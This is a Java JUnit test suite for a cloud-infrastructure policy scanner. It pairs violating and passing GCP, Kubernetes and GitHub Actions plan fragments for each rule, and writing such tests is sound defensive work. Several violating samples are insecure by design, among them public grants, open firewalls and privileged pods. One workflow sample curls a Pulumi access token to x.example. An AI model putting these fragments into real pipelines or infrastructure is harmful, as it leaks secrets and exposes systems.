package ai.kuraos.infra.policy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;

import static ai.kuraos.infra.policy.Fragments.container;
import static ai.kuraos.infra.policy.Fragments.deployment;
import static ai.kuraos.infra.policy.Fragments.findings;
import static ai.kuraos.infra.policy.Fragments.namespace;
import static ai.kuraos.infra.policy.Fragments.plan;
import static ai.kuraos.infra.policy.Fragments.resource;
import static org.assertj.core.api.Assertions.assertThat;

/** Every rule, with a plan fragment that violates it (and the input path it must name) and one that passes. */
class RulesTest {

    record Case(String rule, String path, StackPlan violating, StackPlan passing) {
        @Override
        public String toString() {
            return rule + " at " + path;
        }
    }

    private static final String SQL = "gcp:sql/databaseInstance:DatabaseInstance";
    private static final String BUCKET = "gcp:storage/bucket:Bucket";
    private static final String REDIS = "gcp:redis/instance:Instance";
    private static final String GKE = "gcp:container/cluster:Cluster";
    private static final String PROJECT_MEMBER = "gcp:projects/iAMMember:IAMMember";
    private static final String SA = "gcp:serviceaccount/account:Account";

    private static Case grant(String rule, String type, String member, String path) {
        var inputs = "{'role':'roles/x.viewer'," + (path.startsWith("members") ? "'members':['user:a@kuraos.ai','"
                + member + "']" : "'member':'" + member + "'") + "}";
        return new Case(rule, path, plan(resource(type, "grant", inputs)),
                plan(resource(type, "grant", inputs.replace(member, "serviceAccount:app@p.iam.gserviceaccount.com"))));
    }

    private static Case single(String rule, String path, String type, String violating, String passing) {
        return new Case(rule, path, plan(resource(type, "subject", violating)), plan(resource(type, "subject", passing)));
    }

    private static Case sqlFlag(String rule, String flag, String bad, String good) {
        var template = "{'databaseVersion':'POSTGRES_15','settings':{'databaseFlags':[{'name':'log_x','value':'1'},"
                + "{'name':'" + flag + "','value':'%s'}]}}";
        return single(rule, "settings.databaseFlags[1].value", SQL, template.formatted(bad), template.formatted(good));
    }

    private static Case cluster(String rule, String path, String violating, String passing) {
        return single(rule, path, GKE, violating, passing);
    }

    private static Case pod(String rule, String path, java.util.function.Consumer<com.fasterxml.jackson.databind.node.ObjectNode> breakIt) {
        return new Case(rule, "spec.template.spec." + path, plan(deployment(breakIt)), plan(deployment(spec -> {
        })));
    }

    static List<Case> cases() {
        var cases = new ArrayList<Case>();
        // Public access
        cases.add(grant("KURA-GCP-001", "gcp:storage/bucketIAMMember:BucketIAMMember", "allUsers", "member"));
        cases.add(grant("KURA-GCP-002", "gcp:cloudrunv2/serviceIamMember:ServiceIamMember", "allAuthenticatedUsers",
                "member"));
        cases.add(grant("KURA-GCP-003", "gcp:artifactregistry/repositoryIamBinding:RepositoryIamBinding", "allUsers",
                "members[1]"));
        cases.add(grant("KURA-GCP-004", "gcp:secretmanager/secretIamMember:SecretIamMember", "allUsers", "member"));
        cases.add(grant("KURA-GCP-005", "gcp:kms/cryptoKeyIAMMember:CryptoKeyIAMMember", "allUsers", "member"));
        cases.add(single("KURA-GCP-006", "policyData.bindings[0].members[0]", "gcp:projects/iAMPolicy:IAMPolicy",
                "{'policyData':'{\\'bindings\\':[{\\'role\\':\\'roles/viewer\\',\\'members\\':[\\'allUsers\\']}]}'}",
                "{'policyData':'{\\'bindings\\':[{\\'role\\':\\'roles/viewer\\',\\'members\\':[\\'group:ops@kuraos.ai\\']}]}'}"));
        cases.add(single("KURA-GCP-010", "publicAccessPrevention", BUCKET, "{'publicAccessPrevention':'inherited'}",
                "{'publicAccessPrevention':'enforced'}"));
        cases.add(single("KURA-GCP-011", "uniformBucketLevelAccess", BUCKET, "{'uniformBucketLevelAccess':false}",
                "{'uniformBucketLevelAccess':true}"));
        cases.add(single("KURA-GCP-012", "versioning.enabled", BUCKET, "{}", "{'versioning':{'enabled':true}}"));
        cases.add(single("KURA-GCP-020", "authEnabled", REDIS, "{'authEnabled':false}", "{'authEnabled':true}"));
        cases.add(single("KURA-GCP-021", "transitEncryptionMode", REDIS, "{}",
                "{'transitEncryptionMode':'SERVER_AUTHENTICATION'}"));
        cases.add(single("KURA-GCP-022", "connectMode", REDIS, "{'authorizedNetwork':'vpc','connectMode':'DIRECT_PEERING'}",
                "{'authorizedNetwork':'vpc','connectMode':'PRIVATE_SERVICE_ACCESS'}"));
        cases.add(single("KURA-GCP-030", "rotationPeriod", "gcp:kms/cryptoKey:CryptoKey", "{'rotationPeriod':'31536000s'}",
                "{'rotationPeriod':'7776000s'}"));
        cases.add(single("KURA-GCP-031", "encryptionKeyName", SQL, "{}", "{'encryptionKeyName':'projects/p/keys/k'}"));
        cases.add(single("KURA-NET-001", "sslPolicy", "gcp:compute/targetHttpsProxy:TargetHttpsProxy", "{}",
                "{'sslPolicy':'${modern.selfLink}'}"));
        cases.add(single("KURA-NET-001", "minTlsVersion", "gcp:compute/sSLPolicy:SSLPolicy",
                "{'minTlsVersion':'TLS_1_0','profile':'MODERN'}", "{'minTlsVersion':'TLS_1_2','profile':'MODERN'}"));
        cases.add(httpRedirect());
        cases.add(single("KURA-NET-003", "securityPolicy", "gcp:compute/backendService:BackendService",
                "{'loadBalancingScheme':'EXTERNAL_MANAGED'}",
                "{'loadBalancingScheme':'EXTERNAL_MANAGED','securityPolicy':'${armor.selfLink}'}"));
        cases.add(new Case("KURA-NET-004", "ingress",
                plan(resource("gcp:cloudrunv2/service:Service", "api", "{'name':'api','ingress':'INGRESS_TRAFFIC_ALL'}"),
                        resource(GcpRules.SERVERLESS_NEG, "api-neg", "{'cloudRun':{'service':'api'}}")),
                plan(resource("gcp:cloudrunv2/service:Service", "api",
                                "{'name':'api','ingress':'INGRESS_TRAFFIC_INTERNAL_LOAD_BALANCER'}"),
                        resource(GcpRules.SERVERLESS_NEG, "api-neg", "{'cloudRun':{'service':'api'}}"))));
        cases.add(single("KURA-LOG-001", "logConfig.enable", "gcp:compute/backendService:BackendService", "{}",
                "{'logConfig':{'enable':true,'sampleRate':1}}"));
        cases.add(single("KURA-LOG-002", "logConfig.enable", "gcp:compute/routerNat:RouterNat", "{}",
                "{'logConfig':{'enable':true,'filter':'ERRORS_ONLY'}}"));
        cases.add(single("KURA-LOG-003", "logConfig", "gcp:compute/subnetwork:Subnetwork", "{}",
                "{'logConfig':{'flowSampling':0.5,'metadata':'INCLUDE_ALL_METADATA'}}"));
        cases.add(single("KURA-NET-010", "privateIpGoogleAccess", "gcp:compute/subnetwork:Subnetwork",
                "{'privateIpGoogleAccess':false}", "{'privateIpGoogleAccess':true}"));
        cases.add(single("KURA-NET-011", "autoCreateSubnetworks", "gcp:compute/network:Network", "{'name':'kura-vpc'}",
                "{'name':'kura-vpc','autoCreateSubnetworks':false}"));
        cases.add(single("KURA-NET-012", "sourceRanges[1]", "gcp:compute/firewall:Firewall",
                "{'direction':'INGRESS','sourceRanges':['10.0.0.0/8','0.0.0.0/0']}",
                "{'direction':'INGRESS','sourceRanges':['10.0.0.0/8','35.191.0.0/16']}"));
        cases.add(single("KURA-IAM-010", "template.serviceAccount", "gcp:cloudrunv2/service:Service",
                "{'template':{'containers':[]}}", "{'template':{'serviceAccount':'${backend-sa.email}'}}"));
        cases.add(single("KURA-GCP-040", "labels", BUCKET, "{'labels':{'app':'kura'}}",
                "{'labels':{'app':'kura','environment':'prod','managed-by':'pulumi'}}"));
        cases.add(new Case("KURA-GCP-050", "protect", plan(resource(REDIS, "cache", "{}", false)),
                plan(resource(REDIS, "cache", "{}", true))));
        cases.add(single("KURA-GCP-050", "settings.deletionProtectionEnabled", SQL,
                "{'deletionProtection':true,'settings':{}}",
                "{'deletionProtection':true,'settings':{'deletionProtectionEnabled':true}}"));
        // Cloud SQL
        cases.add(single("KURA-SQL-001", "settings.ipConfiguration.ipv4Enabled", SQL, "{'settings':{}}",
                "{'settings':{'ipConfiguration':{'ipv4Enabled':false,'privateNetwork':'vpc'}}}"));
        cases.add(single("KURA-SQL-002", "settings.ipConfiguration.authorizedNetworks[0].value", SQL,
                "{'settings':{'ipConfiguration':{'authorizedNetworks':[{'value':'0.0.0.0/0'}]}}}",
                "{'settings':{'ipConfiguration':{'authorizedNetworks':[{'value':'203.0.113.0/24'}]}}}"));
        cases.add(single("KURA-SQL-003", "settings.ipConfiguration.requireSsl", SQL,
                "{'settings':{'ipConfiguration':{'requireSsl':false}}}",
                "{'settings':{'ipConfiguration':{'sslMode':'ENCRYPTED_ONLY'}}}"));
        cases.add(single("KURA-SQL-004", "settings.backupConfiguration.enabled", SQL,
                "{'settings':{'backupConfiguration':{'enabled':false}}}",
                "{'settings':{'backupConfiguration':{'enabled':true}}}"));
        cases.add(single("KURA-SQL-005", "settings.backupConfiguration.pointInTimeRecoveryEnabled", SQL,
                "{'databaseVersion':'POSTGRES_15','settings':{'backupConfiguration':{'enabled':true}}}",
                "{'databaseVersion':'POSTGRES_15','settings':{'backupConfiguration':{'pointInTimeRecoveryEnabled':true}}}"));
        cases.add(single("KURA-SQL-006", "settings.backupConfiguration.backupRetentionSettings.retainedBackups", SQL,
                "{'settings':{'backupConfiguration':{'backupRetentionSettings':{'retainedBackups':3}}}}",
                "{'settings':{'backupConfiguration':{'enabled':true}}}"));
        cases.add(sqlFlag("KURA-SQL-010", "log_error_verbosity", "terse", "default"));
        cases.add(sqlFlag("KURA-SQL-011", "log_connections", "off", "on"));
        cases.add(sqlFlag("KURA-SQL-012", "log_disconnections", "off", "on"));
        cases.add(sqlFlag("KURA-SQL-013", "log_statement", "none", "ddl"));
        cases.add(sqlFlag("KURA-SQL-014", "log_min_messages", "error", "warning"));
        cases.add(sqlFlag("KURA-SQL-015", "log_min_error_statement", "fatal", "error"));
        cases.add(sqlFlag("KURA-SQL-016", "log_min_duration_statement", "100", "-1"));
        cases.add(sqlFlag("KURA-SQL-017", "cloudsql.enable_pgaudit", "off", "on"));
        cases.add(sqlFlag("KURA-SQL-018", "log_checkpoints", "off", "on"));
        cases.add(sqlFlag("KURA-SQL-019", "log_lock_waits", "off", "on"));
        cases.add(sqlFlag("KURA-SQL-020", "log_temp_files", "1024", "0"));
        // IAM
        cases.add(single("KURA-IAM-001", "role", PROJECT_MEMBER, "{'role':'roles/editor','member':'user:a@kuraos.ai'}",
                "{'role':'roles/logging.logWriter','member':'user:a@kuraos.ai'}"));
        cases.add(new Case("KURA-IAM-002", "role",
                plan(resource(SA, "app-sa", "{}"), resource(PROJECT_MEMBER, "grant",
                        "{'role':'roles/storage.admin','member':'${app-sa.member}'}")),
                plan(resource(SA, "app-sa", "{}"), resource(PROJECT_MEMBER, "grant",
                        "{'role':'roles/storage.admin','member':'group:ops@kuraos.ai'}"))));
        cases.add(new Case("KURA-IAM-003", "role",
                plan(resource(PROJECT_MEMBER, "grant", "{'role':'roles/iam.serviceAccountUser','member':'user:a@kuraos.ai'}")),
                plan(resource("gcp:serviceaccount/iAMMember:IAMMember", "grant",
                        "{'role':'roles/iam.serviceAccountUser','member':'user:a@kuraos.ai','serviceAccountId':'${sa.name}'}"))));
        cases.add(new Case("KURA-IAM-004", "serviceAccountId",
                plan(resource(SA, "app-sa", "{}"), resource("gcp:serviceaccount/key:Key", "app-key",
                        "{'serviceAccountId':'${app-sa.name}'}")),
                plan(resource(SA, "app-sa", "{}"))));
        cases.add(single("KURA-IAM-005", "condition", PROJECT_MEMBER,
                "{'role':'roles/secretmanager.secretAccessor','member':'serviceAccount:a@p.iam.gserviceaccount.com'}",
                "{'role':'roles/secretmanager.secretAccessor','member':'serviceAccount:a@p.iam.gserviceaccount.com',"
                        + "'condition':{'title':'one secret','expression':'resource.name.endsWith(\\'/secrets/X\\')'}}"));
        cases.add(single("KURA-IAM-006", "attributeCondition",
                "gcp:iam/workloadIdentityPoolProvider:WorkloadIdentityPoolProvider", "{'attributeCondition':''}",
                "{'attributeCondition':'assertion.repository == \\'kura-os/kura-infra\\''}"));
        cases.add(new Case("KURA-IAM-007", "policyData", plan(resource("gcp:projects/iAMPolicy:IAMPolicy", "policy",
                "{'project':'p','policyData':'{\\'bindings\\':[{\\'role\\':\\'roles/run.admin\\',\\'members\\':[\\'group:ops@kuraos.ai\\']}]}'}")),
                plan(resource(PROJECT_MEMBER, "grant", "{'project':'p','role':'roles/run.admin','member':'group:ops@kuraos.ai'}"))));
        cases.add(new Case("KURA-IAM-008", "member",
                plan(resource("gcp:serviceaccount/iAMMember:IAMMember", "grant", "{'role':'roles/iam.workloadIdentityUser',"
                        + "'member':'principalSet://iam.googleapis.com/${pool.name}/*'}")),
                plan(resource("gcp:serviceaccount/iAMMember:IAMMember", "grant", "{'role':'roles/iam.workloadIdentityUser',"
                        + "'member':'principalSet://iam.googleapis.com/${pool.name}/attribute.environment/prod'}"))));
        cases.add(single("KURA-IAM-009", "condition.expression", PROJECT_MEMBER,
                "{'role':'roles/logging.viewer','member':'group:ops@kuraos.ai','condition':{'title':'until',"
                        + "'expression':'request.time < timestamp(\\'2099-01-01T00:00:00Z\\')'}}",
                "{'role':'roles/logging.viewer','member':'group:ops@kuraos.ai','condition':{'title':'until',"
                        + "'expression':'request.time < timestamp(\\'2027-01-31T00:00:00Z\\')'}}"));
        cases.add(single("KURA-IAM-011", "role", PROJECT_MEMBER,
                "{'role':'roles/iam.securityAdmin','member':'user:someone@gmail.com'}",
                "{'role':'roles/resourcemanager.projectIamAdmin','member':'serviceAccount:d@p.iam.gserviceaccount.com',"
                        + "'condition':{'title':'only these','expression':'api.getAttribute(\\'iam.googleapis.com/"
                        + "modifiedGrantsByRole\\', []).hasOnly([\\'roles/run.invoker\\'])'}}"));
        cases.add(new Case("KURA-IAM-012", "role",
                plan(resource(PROJECT_MEMBER, "sa-admin", "{'role':'roles/iam.serviceAccountAdmin','member':'user:a@kuraos.ai'}"),
                        resource(PROJECT_MEMBER, "sa-user", "{'role':'roles/iam.serviceAccountUser','member':'user:a@kuraos.ai'}")),
                plan(resource(PROJECT_MEMBER, "sa-admin", "{'role':'roles/iam.serviceAccountAdmin','member':'user:a@kuraos.ai'}"),
                        resource(PROJECT_MEMBER, "sa-user", "{'role':'roles/iam.serviceAccountUser','member':'user:b@kuraos.ai'}"))));
        cases.add(single("KURA-GCP-007", "accesses[1].specialGroup", "gcp:bigquery/dataset:Dataset",
                "{'accesses':[{'role':'OWNER','groupByEmail':'ops@kuraos.ai'},{'role':'READER','specialGroup':'allAuthenticatedUsers'}]}",
                "{'accesses':[{'role':'OWNER','groupByEmail':'ops@kuraos.ai'},{'role':'READER','specialGroup':'projectReaders'}]}"));
        // Hardening (issue 24): trust by name from any workflow file; a throttle that lets requests past the WAF.
        cases.add(single("KURA-IAM-024", "attributeCondition",
                "gcp:iam/workloadIdentityPoolProvider:WorkloadIdentityPoolProvider",
                "{'attributeCondition':'assertion.repository == \\'kura-os/kura-infra\\''}",
                "{'attributeCondition':'assertion.repository_id == \\'1\\' && assertion.repository_owner_id == \\'2\\'"
                        + " && assertion.job_workflow_ref == \\'kura-os/kura-infra/.github/workflows/deploy.yml@refs/heads/main\\''}"));
        var delegation = "{'role':'roles/resourcemanager.projectIamAdmin','member':'serviceAccount:d@p.iam.gserviceaccount.com',"
                + "'condition':{'title':'only these','expression':'api.getAttribute(\\'iam.googleapis.com/"
                + "modifiedGrantsByRole\\', []).hasOnly([\\'roles/logging.logWriter\\', \\'%s\\'])'}}";
        cases.add(single("KURA-IAM-025", "condition.expression", PROJECT_MEMBER,
                delegation.formatted("roles/iam.roleAdmin"), delegation.formatted("roles/cloudtrace.agent")));
        cases.add(single("KURA-IAM-026", "permissions[1]", "gcp:projects/iAMCustomRole:IAMCustomRole",
                "{'roleId':'purger','permissions':['compute.urlMaps.invalidateCache','iam.serviceAccounts.actAs']}",
                "{'roleId':'purger','permissions':['compute.urlMaps.invalidateCache','compute.urlMaps.get']}"));
        var throttle = "{'priority':1000,'action':'throttle','match':{'expr':{'expression':'true'}},"
                + "'rateLimitOptions':{'conformAction':'allow','exceedAction':'deny(429)'}}";
        var waf = "{'priority':%d,'action':'deny(403)','match':{'expr':{'expression':"
                + "'evaluatePreconfiguredWaf(\\'sqli-v33-stable\\')'}}}";
        cases.add(single("KURA-NET-024", "rules[1].priority", "gcp:compute/securityPolicy:SecurityPolicy",
                "{'rules':[" + throttle + "," + waf.formatted(2000) + "]}",
                "{'rules':[" + throttle + "," + waf.formatted(500) + "]}"));
        // GKE: where the plan is silent, Autopilot's enforced defaults pass
        cases.add(cluster("KURA-GKE-001", "privateClusterConfig.enablePrivateNodes", "{'enableAutopilot':true}",
                "{'enableAutopilot':true,'privateClusterConfig':{'enablePrivateNodes':true}}"));
        cases.add(cluster("KURA-GKE-002", "masterAuthorizedNetworksConfig.cidrBlocks[0].cidrBlock",
                "{'masterAuthorizedNetworksConfig':{'cidrBlocks':[{'cidrBlock':'0.0.0.0/0'}]}}",
                "{'privateClusterConfig':{'enablePrivateEndpoint':true},'masterAuthorizedNetworksConfig':{'cidrBlocks':[]}}"));
        cases.add(cluster("KURA-GKE-003", "workloadIdentityConfig.workloadPool", "{}", "{'enableAutopilot':true}"));
        cases.add(cluster("KURA-GKE-004", "enableShieldedNodes", "{'enableShieldedNodes':false}", "{}"));
        cases.add(cluster("KURA-GKE-005", "releaseChannel.channel", "{'releaseChannel':{'channel':'UNSPECIFIED'}}",
                "{'enableAutopilot':true}"));
        cases.add(cluster("KURA-GKE-006", "networkPolicy.enabled", "{}", "{'datapathProvider':'ADVANCED_DATAPATH'}"));
        cases.add(cluster("KURA-GKE-007", "enableLegacyAbac", "{'enableLegacyAbac':true}", "{'enableAutopilot':true}"));
        cases.add(cluster("KURA-GKE-008", "masterAuth.clientCertificateConfig.issueClientCertificate",
                "{'masterAuth':{'clientCertificateConfig':{'issueClientCertificate':true}}}",
                "{'masterAuth':{'clientCertificateConfig':{'issueClientCertificate':false}}}"));
        // Kubernetes pods
        cases.add(pod("KURA-K8S-001", "containers[0].securityContext.privileged",
                spec -> ((com.fasterxml.jackson.databind.node.ObjectNode) container(spec).path("securityContext"))
                        .put("privileged", true)));
        cases.add(pod("KURA-K8S-002", "hostNetwork", spec -> spec.put("hostNetwork", true)));
        cases.add(pod("KURA-K8S-003", "containers[0].securityContext.allowPrivilegeEscalation",
                spec -> context(spec).remove("allowPrivilegeEscalation")));
        cases.add(pod("KURA-K8S-004", "containers[0].securityContext.runAsNonRoot",
                spec -> context(spec).put("runAsNonRoot", false)));
        cases.add(pod("KURA-K8S-005", "containers[0].securityContext.capabilities.add",
                spec -> ((com.fasterxml.jackson.databind.node.ObjectNode) context(spec).path("capabilities"))
                        .putArray("add").add("SYS_ADMIN")));
        cases.add(pod("KURA-K8S-006", "containers[0].securityContext.seccompProfile",
                spec -> ((com.fasterxml.jackson.databind.node.ObjectNode) spec.path("securityContext").path("seccompProfile"))
                        .put("type", "Unconfined")));
        cases.add(pod("KURA-K8S-007", "containers[0].securityContext.readOnlyRootFilesystem",
                spec -> context(spec).put("readOnlyRootFilesystem", false)));
        cases.add(pod("KURA-K8S-010", "containers[0].resources.limits",
                spec -> ((com.fasterxml.jackson.databind.node.ObjectNode) container(spec).path("resources").path("limits"))
                        .remove("cpu")));
        cases.add(pod("KURA-K8S-011", "containers[0].resources.requests",
                spec -> ((com.fasterxml.jackson.databind.node.ObjectNode) container(spec).path("resources").path("requests"))
                        .remove("ephemeral-storage")));
        cases.add(pod("KURA-K8S-012", "containers[0].readinessProbe", spec -> container(spec).remove("readinessProbe")));
        cases.add(pod("KURA-K8S-013", "containers[0].image", spec -> container(spec).put("image", "nginx:latest")));
        cases.add(pod("KURA-K8S-014", "automountServiceAccountToken", spec -> spec.remove("automountServiceAccountToken")));
        cases.add(pod("KURA-K8S-016", "containers[0].env[0].valueFrom.secretKeyRef",
                spec -> container(spec).putArray("env").addObject().put("name", "KAFKA_PASSWORD").putObject("valueFrom")
                        .putObject("secretKeyRef").put("name", "kafka-user").put("key", "password")));
        cases.add(single("KURA-K8S-022", "spec.ingress[0]", "kubernetes:networking.k8s.io/v1:NetworkPolicy",
                "{'kind':'NetworkPolicy','metadata':{'name':'default-deny','namespace':'apps'},"
                        + "'spec':{'podSelector':{},'policyTypes':['Ingress'],'ingress':[{}]}}",
                "{'kind':'NetworkPolicy','metadata':{'name':'default-deny','namespace':'apps'},"
                        + "'spec':{'podSelector':{},'policyTypes':['Ingress','Egress']}}"));
        cases.addAll(workflowCases());
        cases.add(pod("KURA-K8S-002", "containers[0].ports[0].hostPort",
                spec -> container(spec).putArray("ports").addObject().put("containerPort", 8080).put("hostPort", 8080)));
        for (var flag : List.of("KURA-SQL-021:log_executor_stats", "KURA-SQL-022:log_parser_stats",
                "KURA-SQL-023:log_planner_stats", "KURA-SQL-024:log_statement_stats")) {
            cases.add(sqlFlag(flag.split(":")[0], flag.split(":")[1], "on", "off"));
        }
        cases.add(new Case("KURA-K8S-015", "metadata.namespace",
                plan(inNamespace("default")), plan(deployment(spec -> {
        }))));
        cases.add(new Case("KURA-K8S-020", "metadata.name",
                plan(deployment(spec -> {
                }).stream().filter(resource -> !resource.type().contains("NetworkPolicy")).toList()),
                plan(deployment(spec -> {
                }))));
        cases.add(new Case("KURA-K8S-021", "metadata.labels[\"pod-security.kubernetes.io/enforce\"]",
                plan(withNamespace(namespace("apps", "baseline"))), plan(deployment(spec -> {
        }))));
        cases.add(single("KURA-K8S-030", "spec.kafka.listeners[0].tls", "kubernetes:kafka.strimzi.io/v1beta2:Kafka",
                "{'kind':'Kafka','spec':{'kafka':{'listeners':[{'name':'plain','port':9092,'tls':false,'type':'internal'}]}}}",
                "{'kind':'Kafka','spec':{'kafka':{'listeners':[{'name':'tls','port':9093,'tls':true,'type':'internal'}]}}}"));
        cases.add(single("KURA-K8S-032", "spec.kafka.listeners[0].authentication",
                "kubernetes:kafka.strimzi.io/v1beta2:Kafka",
                "{'kind':'Kafka','spec':{'kafka':{'authorization':{'type':'simple'},"
                        + "'listeners':[{'name':'tls','port':9093,'tls':true,'type':'internal'}]}}}",
                "{'kind':'Kafka','spec':{'kafka':{'authorization':{'type':'simple'},'listeners':[{'name':'tls',"
                        + "'port':9093,'tls':true,'type':'internal','authentication':{'type':'tls'}}]}}}"));
        cases.add(single("KURA-K8S-032", "spec.kafka.authorization", "kubernetes:kafka.strimzi.io/v1beta2:Kafka",
                "{'kind':'Kafka','spec':{'kafka':{'listeners':[{'name':'tls','port':9093,'tls':true,"
                        + "'type':'internal','authentication':{'type':'tls'}}]}}}",
                "{'kind':'Kafka','spec':{'kafka':{'authorization':{'type':'simple'},'listeners':[{'name':'tls',"
                        + "'port':9093,'tls':true,'type':'internal','authentication':{'type':'tls'}}]}}}"));
        cases.add(single("KURA-K8S-031", "metadata.annotations", "kubernetes:core/v1:Service",
                "{'kind':'Service','metadata':{'name':'api'},'spec':{'type':'LoadBalancer','loadBalancerSourceRanges':['10.0.0.0/8']}}",
                "{'kind':'Service','metadata':{'name':'api','annotations':{'networking.gke.io/load-balancer-type':'Internal'}},"
                        + "'spec':{'type':'LoadBalancer','loadBalancerSourceRanges':['10.0.0.0/8']}}"));
        cases.add(single("KURA-K8S-040", "chart", "kubernetes:helm.sh/v3:Release",
                "{'chart':'ingress-nginx','namespace':'ingress','values':{}}",
                "{'chart':'strimzi-kafka-operator','version':'0.45.0','namespace':'strimzi','values':{}}"));
        cases.add(single("KURA-K8S-041", "metadata.labels", "kubernetes:core/v1:ConfigMap",
                "{'kind':'ConfigMap','metadata':{'name':'settings','labels':{'app.kubernetes.io/name':'app'}}}",
                "{'kind':'ConfigMap','metadata':{'name':'settings','labels':{'app.kubernetes.io/name':'app',"
                        + "'app.kubernetes.io/part-of':'kura','app.kubernetes.io/managed-by':'pulumi'}}}"));
        return cases;
    }

    private static Case workflow(String rule, String path, String violating, String passing) {
        return single(rule, path, Workflows.TYPE, violating, passing);
    }

    static List<Case> workflowCases() {
        var checkout = "{'uses':'actions/checkout@v4','with':{'ref':'%s'}}";
        return List.of(
                workflow("KURA-GHA-001", "jobs.comment.steps[0].with.ref",
                        "{'on':{'pull_request_target':{}},'jobs':{'comment':{'steps':[" + checkout.formatted(
                                "${{ github.event.pull_request.head.sha }}") + "]}}}",
                        "{'on':{'pull_request_target':{}},'jobs':{'comment':{'steps':[" + checkout.formatted(
                                "${{ github.sha }}") + "]}}}"),
                workflow("KURA-GHA-002", "jobs.check.steps[0].run",
                        "{'on':'pull_request','jobs':{'check':{'steps':[{'run':'echo \\'${{ github.event.pull_request.title }}\\''}]}}}",
                        "{'on':'pull_request','jobs':{'check':{'steps':[{'run':'echo \\'$TITLE\\'','env':"
                                + "{'TITLE':'${{ github.event.pull_request.title }}'}}]}}}"),
                workflow("KURA-GHA-003", "permissions", "{'on':'push','permissions':'write-all'}",
                        "{'on':'push','permissions':{'contents':'read'}}"),
                workflow("KURA-GHA-004", "jobs.login.steps[0].run",
                        "{'on':'push','jobs':{'login':{'steps':[{'run':'echo \\\"token is $TOKEN\\\"','env':"
                                + "{'TOKEN':'${{ secrets.PULUMI_ACCESS_TOKEN }}'}}]}}}",
                        "{'on':'push','jobs':{'login':{'steps':[{'run':'echo \\\"$TOKEN\\\" | pulumi login --stdin',"
                                + "'env':{'TOKEN':'${{ secrets.PULUMI_ACCESS_TOKEN }}'}}]}}}"),
                workflow("KURA-GHA-005", "jobs.up.if",
                        "{'on':{'workflow_run':{'workflows':['ci'],'types':['completed']}},'jobs':{'up':{}}}",
                        "{'on':{'workflow_run':{'workflows':['ci'],'types':['completed']}},'jobs':{'up':{'if':"
                                + "'github.event.workflow_run.conclusion == \\'success\\' && "
                                + "github.event.workflow_run.event == \\'push\\''}}}"),
                workflow("KURA-GHA-006", "jobs.preview.runs-on",
                        "{'on':{'pull_request':{}},'jobs':{'preview':{'runs-on':['self-hosted','linux']}}}",
                        "{'on':{'pull_request':{}},'jobs':{'preview':{'runs-on':'ubuntu-latest'}}}"),
                workflow("KURA-GHA-008", "jobs.build.env.ACTIONS_ALLOW_UNSECURE_COMMANDS",
                        "{'on':'push','jobs':{'build':{'env':{'ACTIONS_ALLOW_UNSECURE_COMMANDS':'true'}}}}",
                        "{'on':'push','jobs':{'build':{'env':{'JAVA_TOOL_OPTIONS':'-Xmx1g'}}}}"),
                workflow("KURA-GHA-009", "jobs.build.steps[0].run",
                        "{'on':'push','jobs':{'build':{'steps':[{'run':'curl -d ${{ secrets.PULUMI_ACCESS_TOKEN }} https://x.example'}]}}}",
                        "{'on':'push','jobs':{'build':{'steps':[{'run':'curl -fsS https://api.pulumi.com/api/user'}]}}}"),
                workflow("KURA-GHA-007", "jobs.build.steps[0].uses",
                        "{'on':'push','jobs':{'build':{'steps':[{'uses':'some-fork/setup-pulumi@master'}]}}}",
                        "{'on':'push','jobs':{'build':{'steps':[{'uses':'pulumi/actions@v5'}]}}}"));
    }

    private static com.fasterxml.jackson.databind.node.ObjectNode context(com.fasterxml.jackson.databind.node.ObjectNode spec) {
        return (com.fasterxml.jackson.databind.node.ObjectNode) container(spec).path("securityContext");
    }

    private static List<PlanResource> inNamespace(String namespace) {
        var resources = new ArrayList<PlanResource>();
        for (var resource : deployment(spec -> {
        })) {
            if (resource.type().equals("kubernetes:apps/v1:Deployment")) {
                ((com.fasterxml.jackson.databind.node.ObjectNode) resource.inputs().path("metadata")).put("namespace", namespace);
            }
            resources.add(resource);
        }
        return resources;
    }

    private static List<PlanResource> withNamespace(PlanResource namespace) {
        var resources = new ArrayList<PlanResource>();
        for (var resource : deployment(spec -> {
        })) {
            resources.add(resource.type().equals("kubernetes:core/v1:Namespace") ? namespace : resource);
        }
        return resources;
    }

    private static Case httpRedirect() {
        var rule = resource("gcp:compute/globalForwardingRule:GlobalForwardingRule", "http",
                "{'portRange':'80','target':'${http-proxy.selfLink}'}");
        var proxy = resource("gcp:compute/targetHttpProxy:TargetHttpProxy", "http-proxy", "{'urlMap':'${http-map.selfLink}'}");
        return new Case("KURA-NET-002", "target",
                plan(rule, proxy, resource("gcp:compute/uRLMap:URLMap", "http-map", "{'defaultService':'${site.selfLink}'}")),
                plan(rule, proxy, resource("gcp:compute/uRLMap:URLMap", "http-map",
                        "{'defaultUrlRedirect':{'httpsRedirect':true}}")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void findsTheViolationAtItsInputPath(Case rule) {
        assertThat(findings(rule.rule(), rule.violating()))
                .extracting(Finding::path)
                .contains(rule.path());
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void acceptsTheFragmentThatFollowsIt(Case rule) {
        assertThat(findings(rule.rule(), rule.passing())).isEmpty();
    }

    @Test
    void everyRuleHasACase() {
        var tested = cases().stream().map(Case::rule).collect(Collectors.toSet());
        assertThat(Rules.all()).extracting(Rule::id).allSatisfy(id -> assertThat(tested).contains(id));
    }

    @Test
    void everyRuleNamesItsBenchmarkAndWhatItAppliesTo() {
        assertThat(Rules.all()).allSatisfy(rule -> {
            assertThat(rule.id()).matches("KURA-(GCP|SQL|IAM|NET|LOG|GKE|K8S|GHA)-\\d{3}");
            assertThat(rule.benchmark()).isNotBlank();
            assertThat(rule.appliesTo()).isNotBlank();
            assertThat(rule.title()).isNotBlank();
        });
    }
}
